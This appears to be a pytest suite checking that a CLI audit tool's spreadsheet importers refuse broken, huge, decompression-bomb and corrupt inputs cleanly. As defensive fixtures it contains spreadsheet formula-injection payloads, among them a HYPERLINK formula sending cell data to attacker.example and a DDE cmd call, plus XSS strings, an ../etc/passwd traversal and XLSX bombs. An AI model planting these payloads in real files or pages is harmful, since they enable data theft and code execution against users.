"""Hostile and broken input: every case ends in one clear line (or safe handling), no traceback, and
nothing half-written; huge files are refused in bounded memory; refused databases stay untouched."""

from __future__ import annotations

import codecs
import os
import resource
import sqlite3
import subprocess
from pathlib import Path

import pytest

from .helpers import (
    CLI,
    CONTROL_HEADER,
    assert_healthy,
    assert_ok,
    assert_one_line_error,
    cli_env,
    control_rows,
    count,
    db_rows,
    inline_row,
    invoke,
    run_cli,
    snapshot_tree,
    write_controls_csv,
    write_controls_xlsx,
    write_raw_xlsx,
)

MB = 1 << 20


@pytest.fixture
def eng(engagement):
    engagement.close()
    return engagement


def _untouched(eng_or_db) -> tuple[int, int]:
    db = getattr(eng_or_db, "db_path", eng_or_db)
    return count(db, "control"), count(db, "journalentry")


def _import(eng, path: Path):
    return invoke("import", "controls", eng.slug, path)


# --- broken spreadsheets -------------------------------------------------------------------------

VALID = "Control ID,Title,TSC\nC-1,Access review,CC6.1\n"
BROKEN = {
    "empty.csv": b"",
    "blank-lines.csv": b"\n\n  \n\r\n",
    "header-only.csv": b"Control ID,Title,TSC\n",
    "binary.csv": os.urandom(4096) + b"\x00",
    "png-renamed.csv": b"\x89PNG\r\n\x1a\n" + b"\x00" * 64,
    "binary.xlsx": os.urandom(2048),
    "zip-not-xlsx.xlsx": b"PK\x05\x06" + b"\x00" * 18,
    "utf16-truncated.csv": codecs.BOM_UTF16_LE + "Control ID,Title\nC-1,x\n".encode("utf-16-le")[:-1],
    "no-header.csv": b"foo,bar\n1,2\n",
    "nul-in-row.csv": b"Control ID,Title\n" + b"C-1,ok\n" * 5000 + b"C-2,\x00bad\n",
}


#: Every importer of the product: (command words, header, one row template with #B# and {i}).
IMPORTERS = {
    "controls": (("import", "controls"), "Control ID,Title,Control Activity,TSC,Frequency",
                 "R#B#-{i:05d},Title {i},Quarterly access review of the production systems,CC6.1,Monthly"),
    "requests": (("import", "requests"), "Request ID,Request Description,Owner,Due Date,Status",
                 "R#B#-{i:05d},Please provide the access review evidence for system {i},Jane Doe,2026-12-01,Open"),
}


def _run_importer(importer: str, eng, path: Path, runner=None):
    words = IMPORTERS[importer][0]
    return (runner or invoke)(*words, eng.slug, path)


def _rows_written(eng) -> tuple[int, ...]:
    db = eng.db_path
    return (count(db, "control"), count(db, "evidencerequest"), count(db, "journalentry"))


@pytest.mark.parametrize("importer", sorted(IMPORTERS))
@pytest.mark.parametrize("name", sorted(BROKEN))
def test_broken_files_fail_in_one_line_and_import_nothing(eng, tmp_path, name, importer):
    p = tmp_path / name
    p.write_bytes(BROKEN[name])
    before = _rows_written(eng)
    assert_one_line_error(_run_importer(importer, eng, p), name)
    assert _rows_written(eng) == before


def test_csv_cut_at_every_byte_imports_whole_rows_or_fails_in_one_line(eng, tmp_path):
    """A truncated CSV cannot always be told from a shorter one; what must hold is that each import is
    all-or-nothing and never a traceback."""
    data = write_controls_csv(tmp_path / "full.csv", 3).read_bytes()
    p = tmp_path / "cut.csv"
    for cut in range(0, len(data), 7):
        p.write_bytes(data[:cut])
        before = _untouched(eng)
        proc = _import(eng, p)
        if proc.returncode:
            assert_one_line_error(proc)
            assert _untouched(eng) == before
        else:
            assert "Traceback" not in proc.stderr
    assert_healthy(eng.root)


def test_truncated_xlsx(eng, tmp_path):
    good = write_controls_xlsx(tmp_path / "good.xlsx", control_rows(200))
    data = good.read_bytes()
    for cut in (len(data) // 3, len(data) // 2, len(data) - 30):
        bad = tmp_path / f"cut{cut}.xlsx"
        bad.write_bytes(data[:cut])
        assert_one_line_error(_import(eng, bad), bad.name)
    assert _untouched(eng)[0] == 0


ENCODINGS = {
    "utf-8": "utf-8", "utf-8-bom": "utf-8-sig", "cp1252": "cp1252", "latin-1": "latin-1",
    "utf-16 (Excel Unicode Text)": "utf-16",
}


@pytest.mark.parametrize("label", sorted(ENCODINGS))
def test_encodings_are_read_or_refused_cleanly(eng, tmp_path, label):
    p = tmp_path / "enc.csv"
    text = "Control ID,Title,Owner\nC-1,Accès revue,Zoë Müller\nC-2,Contrôle ü,José\n"
    p.write_bytes(text.encode(ENCODINGS[label]))
    assert_ok(_import(eng, p))
    titles = [r[0] for r in db_rows(eng.db_path, "SELECT title FROM control ORDER BY ref")]
    assert titles == ["Accès revue", "Contrôle ü"]


def test_wrong_encoding_never_crashes(eng, tmp_path):
    """Shift-JIS or mixed bytes: imported as best-effort text (cp1252/latin-1), never a traceback."""
    p = tmp_path / "sjis.csv"
    p.write_bytes(b"Control ID,Title\n" + "C-1,アクセスレビュー\n".encode("shift_jis") + b"C-2,\xff\xfe\x80\n")
    proc = _import(eng, p)
    assert proc.returncode == 0, proc.stderr
    assert count(eng.db_path, "control") == 2


def test_formula_looking_cells_are_stored_as_text(eng, tmp_path):
    nasty = ['=HYPERLINK("http://attacker.example/?d="&A1,"Click")', "+1+1", "-2+3", "@SUM(1,2)",
             "=cmd|' /C calc'!A0", "\t=1+1"]
    rows = [[f"F-{i}", v, v, "CC6.1", "Annually", v.strip(), "Manual", "No"] for i, v in enumerate(nasty)]
    assert_ok(_import(eng, write_controls_csv(tmp_path / "f.csv", rows=rows)))
    stored = dict(db_rows(eng.db_path, "SELECT ref, description FROM control"))
    assert stored == {f"F-{i}": v.strip() for i, v in enumerate(nasty)}
    # the same cells in an XLSX (as strings): stored verbatim too, never evaluated
    xrows = [[f"X-{i}", v, v, "CC6.1", "Annually", "", "Manual", "No"] for i, v in enumerate(nasty)]
    assert_ok(_import(eng, write_controls_xlsx(tmp_path / "f.xlsx", xrows)))
    assert count(eng.db_path, "control") == 2 * len(nasty)


def test_html_and_script_are_stored_verbatim(eng, tmp_path):
    evil = '<script>alert("x")</script><img src=x onerror=alert(1)>&amp;'
    rows = [["H-1", evil, evil, "CC6.1", "Annually", evil, "Manual", "No"]]
    assert_ok(_import(eng, write_controls_csv(tmp_path / "h.csv", rows=rows)))
    assert db_rows(eng.db_path, "SELECT title, description FROM control") == [(evil, evil)]


# --- huge files (bounded memory, one line, nothing written) -------------------------------------

MEMORY_LIMIT = 1536 * MB


def _limited() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))


def _run_limited(*args) -> subprocess.CompletedProcess[str]:
    """The CLI with its address space capped: reading a huge file into memory would fail the test."""
    return subprocess.run([*CLI, *map(str, args)], env=cli_env(), capture_output=True, text=True, timeout=600,
                          preexec_fn=_limited)


def _huge_distinct_rows(path: Path, size: int, importer: str = "controls") -> Path:
    """A spreadsheet of `size` bytes whose every row has its own ID (a population picked by mistake),
    written block by block from one template so it costs seconds, not minutes."""
    _, header, template = IMPORTERS[importer]
    block = "".join(template.format(i=i) + "\n" for i in range(12_000)).encode()
    with open(path, "wb") as fh:
        fh.write(header.encode() + b"\n")
        b = 0
        while fh.tell() < size:
            fh.write(block.replace(b"#B#", str(b).encode()))
            b += 1
    return path


def _huge_single_line(path: Path, size: int, importer: str = "controls") -> Path:
    with open(path, "wb") as fh:
        fh.write(b"Control ID,Title\nC-1,")
        chunk = b"A" * MB
        while fh.tell() < size:
            fh.write(chunk)
    return path


def _sparse_tail(path: Path, size: int, importer: str = "controls") -> Path:
    """Valid rows, then a hole of zeros up to `size` (sparse: costs no disk)."""
    write_controls_csv(path, 5)
    with open(path, "r+b") as fh:
        fh.truncate(size)
    return path


HUGE = {"distinct-rows": _huge_distinct_rows, "single-line": _huge_single_line, "sparse-zeros": _sparse_tail}


def _check_huge(eng, tmp_path, kind: str, size: int, importer: str) -> None:
    p = HUGE[kind](tmp_path / f"{kind}.csv", size, importer)
    assert p.stat().st_size >= size
    before = _rows_written(eng)
    line = assert_one_line_error(_run_importer(importer, eng, p, _run_limited), p.name)
    assert "memory" not in line.lower()
    assert _rows_written(eng) == before
    p.unlink()


@pytest.mark.parametrize("importer", sorted(IMPORTERS))
@pytest.mark.parametrize("kind", sorted(HUGE))
def test_200mb_csv_is_refused_in_bounded_memory(eng, tmp_path, kind, importer):
    _check_huge(eng, tmp_path, kind, 200 * MB, importer)


@pytest.mark.slow
@pytest.mark.parametrize("importer", sorted(IMPORTERS))
@pytest.mark.parametrize("kind", sorted(HUGE))
def test_1gb_csv_is_refused_in_bounded_memory(eng, tmp_path, kind, importer):
    _check_huge(eng, tmp_path, kind, 1024 * MB, importer)


def _xlsx_sheet_bomb(path: Path, size: int) -> Path:
    """A small XLSX whose sheet unpacks to `size` bytes of distinct control rows."""
    header = inline_row(1, ["Control ID", "Title", "TSC"])
    template = "".join(inline_row(None, [f"R#B#-{i:05d}", f"Title {i}", "CC6.1"]) for i in range(5000))

    def chunks():
        yield header
        written, b = 0, 0
        while written < size:
            block = template.replace("#B#", str(b))
            written += len(block)
            b += 1
            yield block

    return write_raw_xlsx(path, chunks())


def _xlsx_shared_strings_bomb(path: Path, size: int) -> Path:
    header = inline_row(1, ["Control ID", "Title"]) + '<row r="2"><c t="s"><v>0</v></c><c t="s"><v>0</v></c></row>'
    filler = "A" * (1 << 20)

    def shared():
        yield "<si><t>"
        for _ in range(size >> 20):
            yield filler
        yield "</t></si>"

    return write_raw_xlsx(path, [header], shared())


def test_xlsx_unpacking_to_200mb_is_refused_in_bounded_memory(eng, tmp_path):
    p = _xlsx_sheet_bomb(tmp_path / "bomb.xlsx", 200 * MB)
    assert p.stat().st_size < 50 * MB
    before = _untouched(eng)
    assert_one_line_error(_run_limited("import", "controls", eng.slug, p), "more than", "control rows")
    assert _untouched(eng) == before


@pytest.mark.slow
def test_xlsx_with_a_1gb_text_table_is_refused_before_loading_it(eng, tmp_path):
    p = _xlsx_shared_strings_bomb(tmp_path / "strings.xlsx", 1024 * MB)
    before = _untouched(eng)
    assert_one_line_error(_run_limited("import", "controls", eng.slug, p), "text table", "save it as CSV")
    assert _untouched(eng) == before


@pytest.mark.slow
def test_xlsx_unpacking_to_1gb_is_refused_in_bounded_memory(eng, tmp_path):
    p = _xlsx_sheet_bomb(tmp_path / "bomb.xlsx", 1024 * MB)
    assert_one_line_error(_run_limited("import", "controls", eng.slug, p), "more than", "control rows")
    assert _untouched(eng)[0] == 0


def test_xlsx_with_a_wrong_recorded_size_imports_every_row(eng, tmp_path):
    """Some tools record a sheet size smaller than the data; streaming must not drop the rows past it."""
    rows = [inline_row(1, ["Control ID", "Title"])] + [inline_row(i + 2, [f"C-{i}", f"T {i}"]) for i in range(5)]
    p = write_raw_xlsx(tmp_path / "dims.xlsx", rows, dimension="A1:B2")
    assert_ok(_import(eng, p))
    assert count(eng.db_path, "control") == 5


@pytest.mark.parametrize("sheet", [
    '<row r="1"><c t="inlineStr"><is><t>Control ID</t></is></c>',  # cut inside the XML
    '<row r="1"><c t="n"><v>not-a-number</v></c></row>',
    '<row r="1"><c t="s"><v>99</v></c></row>',  # shared string index out of range
    '<row r="x"><c r="ZZZZZZ1" t="inlineStr"><is><t>a</t></is></c></row>',
])
def test_malformed_xlsx_content(eng, tmp_path, sheet):
    p = write_raw_xlsx(tmp_path / "odd.xlsx", [sheet])
    proc = _import(eng, p)
    assert_one_line_error(proc, "odd.xlsx")
    assert _untouched(eng)[0] == 0


def test_xlsx_with_too_many_rows_is_refused(eng, tmp_path):
    from fieldwork_tui.services.controls.catalog import MAX_CONTROLS

    rows = [[f"R-{i:06d}", f"Title {i}", "", "CC6.1", "Monthly", "", "Manual", "No"] for i in range(MAX_CONTROLS + 1)]
    p = write_controls_xlsx(tmp_path / "many.xlsx", rows)
    assert_one_line_error(_import(eng, p), "more than", "control rows")
    assert _untouched(eng)[0] == 0


# --- file names and special files ---------------------------------------------------------------

@pytest.mark.parametrize("name", ["evil\nname.csv", "red\x1b[31m.csv", "bell\x07\r.csv", "tab\tname.csv"])
def test_control_characters_in_file_names_stay_escaped(eng, tmp_path, name):
    p = tmp_path / name
    p.write_bytes(b"not,a\ncontrol,matrix\n")
    proc = run_cli("import", "controls", eng.slug, p)
    line = assert_one_line_error(proc)
    assert not any(ord(c) < 32 and c != "\n" for c in proc.stderr), repr(proc.stderr)
    assert "\\" in line  # the control character is shown escaped, the rest of the message follows
    assert "no header row" in line


def test_relative_dotdot_and_absolute_paths(eng, tmp_path):
    sub = tmp_path / "a" / "b"
    sub.mkdir(parents=True)
    write_controls_csv(tmp_path / "up.csv", 2, prefix="UP")
    proc = subprocess.run([*CLI, "import", "controls", eng.slug, "../../up.csv"], cwd=sub, env=cli_env(),
                          capture_output=True, text=True)
    assert_ok(proc)
    assert_ok(run_cli("import", "controls", eng.slug, (tmp_path / "up.csv").absolute()))
    assert count(eng.db_path, "control") == 2
    proc = subprocess.run([*CLI, "import", "controls", eng.slug, "../../../../../../../../etc/passwd"], cwd=sub,
                          env=cli_env(), capture_output=True, text=True)
    assert_one_line_error(proc, "passwd")
    assert count(eng.db_path, "control") == 2


def test_symlinks(eng, tmp_path):
    target = write_controls_csv(tmp_path / "real.csv", 2)
    link = tmp_path / "link.csv"
    link.symlink_to(target)
    assert_ok(_import(eng, link))  # a link to a real matrix is read like the file it points to
    dangling = tmp_path / "dangling.csv"
    dangling.symlink_to(tmp_path / "gone.csv")
    assert_one_line_error(_import(eng, dangling), "not found")
    loop = tmp_path / "loop.csv"
    loop.symlink_to(loop)
    assert_one_line_error(_import(eng, loop), "loop.csv")
    assert count(eng.db_path, "control") == 2


def test_fifo_device_and_folder_are_refused_without_hanging(eng, tmp_path):
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    proc = run_cli("import", "controls", eng.slug, fifo, timeout=60)  # a blocking open would time out here
    assert_one_line_error(proc, "not a regular file")
    assert_one_line_error(_import(eng, Path("/dev/zero")), "not a regular file")
    assert_one_line_error(_import(eng, tmp_path), "is a folder")


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads files whatever their mode; the monkeypatched test covers it")
def test_unreadable_file(eng, tmp_path):
    p = write_controls_csv(tmp_path / "secret.csv", 2)
    p.chmod(0)
    assert_one_line_error(_import(eng, p), "secret.csv", "permission")


def test_unreadable_file_injected(eng, tmp_path, monkeypatch):
    """As root (CI containers) chmod 000 does not stop reads, so the refusal is injected where the file is opened."""
    import builtins

    import fieldwork_tui.store.tabular as tabular

    p = write_controls_csv(tmp_path / "secret.csv", 2)
    real_open = builtins.open

    def denied(file, *a, **kw):
        if Path(str(file)) == p:
            raise PermissionError(13, "Permission denied", str(file))
        return real_open(file, *a, **kw)

    monkeypatch.setattr(tabular, "open", denied, raising=False)
    assert_one_line_error(_import(eng, p), "secret.csv", "permission denied")
    assert count(eng.db_path, "control") == 0


def test_home_with_awkward_characters_keeps_everything_inside(tmp_path, monkeypatch):
    """A home folder named with '?', '#', '%' and spaces: the database is written inside the engagement
    folder (not at a path cut at the '?'), and every command works."""
    home = tmp_path / "we?ird#100% client"
    monkeypatch.setenv("FIELDWORK_HOME", str(home))
    assert_ok(invoke("new", "Acme"))
    assert_ok(invoke("import", "controls", "acme", write_controls_csv(tmp_path / "c.csv", 3)))
    assert_ok(invoke("backup", "acme", "-o", tmp_path / "b.zip"))
    assert_ok(invoke("restore", tmp_path / "b.zip", "--as", "copy"))
    assert sorted(p.name for p in tmp_path.iterdir() if p.name not in ("home", "config")) == sorted(
        ["we?ird#100% client", "c.csv", "b.zip"])
    assert count(home / "acme" / "fieldwork.db", "control") == 3
    assert count(home / "copy" / "fieldwork.db", "control") == 3


# --- databases that must be refused and left untouched -------------------------------------------

def _folder_state(root: Path):
    return snapshot_tree(root), sorted(p.name for p in root.iterdir())


def test_newer_database_is_refused_and_untouched(eng):
    conn = sqlite3.connect(eng.db_path)
    conn.execute("UPDATE alembic_version SET version_num = '9999_from_the_future'")
    conn.commit()
    conn.close()
    before = _folder_state(eng.root)
    for args in (("status", eng.slug), ("import", "controls", eng.slug, "/dev/null"), ("open", eng.slug),
                 ("backup", eng.slug, "-o", eng.root.parent.parent / "b.zip")):
        assert_one_line_error(run_cli(*args), "newer version", "upgrade")
        assert _folder_state(eng.root) == before
    listed = run_cli("list")
    assert_ok(listed)
    assert "newer version" in listed.stdout


def _corrupt_pages(db: Path) -> None:
    data = bytearray(db.read_bytes())
    for page in range(2, len(data) // 4096, 3):
        data[page * 4096 + 8: page * 4096 + 200] = os.urandom(192)
    db.write_bytes(bytes(data))


CORRUPTIONS = {
    "pages": _corrupt_pages,
    "header": lambda db: db.write_bytes(b"garbage!" * 2 + db.read_bytes()[16:]),
    "truncated": lambda db: db.write_bytes(db.read_bytes()[: len(db.read_bytes()) // 3]),
    "empty": lambda db: db.write_bytes(b""),
}


@pytest.mark.parametrize("kind", sorted(CORRUPTIONS))
def test_corrupt_database_is_refused_untouched_and_suggests_backup(eng, kind):
    from fieldwork_tui.services.controls.catalog import add_control
    from fieldwork_tui.services.engagements import open_path

    h = open_path(eng.root)
    for i in range(60):
        add_control(h, f"C-{i}", "x" * 500)
    h.close()
    CORRUPTIONS[kind](eng.db_path)
    before = _folder_state(eng.root)
    line = assert_one_line_error(run_cli("status", eng.slug))
    assert "backup" in line or "not a fieldwork database" in line, line
    assert _folder_state(eng.root) == before
    assert_one_line_error(run_cli("open", eng.slug))
    assert _folder_state(eng.root) == before


# --- full disk -----------------------------------------------------------------------------------

def test_import_on_a_full_disk_fails_cleanly(tiny_fs, tmp_path, monkeypatch):
    home = tiny_fs / "home"
    monkeypatch.setenv("FIELDWORK_HOME", str(home))
    assert_ok(run_cli("new", "Acme"))
    small = write_controls_csv(tmp_path / "small.csv", 5, prefix="OK")
    assert_ok(run_cli("import", "controls", "acme", small))
    big = write_controls_csv(tmp_path / "big.csv", rows=control_rows(4000, "BIG"))
    before = _untouched(home / "acme" / "fieldwork.db")
    line = assert_one_line_error(run_cli("import", "controls", "acme", big), "disk full")
    assert "nothing was saved" in line
    assert _untouched(home / "acme" / "fieldwork.db") == before
    assert_healthy(home / "acme")


def test_header_aliases_in_hostile_order(eng, tmp_path):
    """Columns in any order, extra junk columns, duplicate header names: imported by alias or refused in one line."""
    header = ["junk", "TSC", "Title", "junk", "Control ID", "Title"]
    p = tmp_path / "order.csv"
    p.write_text(",".join(header) + "\n" + "x,CC6.1,First,y,C-1,Second\n")
    proc = _import(eng, p)
    assert proc.returncode == 0 or len(proc.stderr.strip().splitlines()) == 1
    assert CONTROL_HEADER[0] == "Control ID"
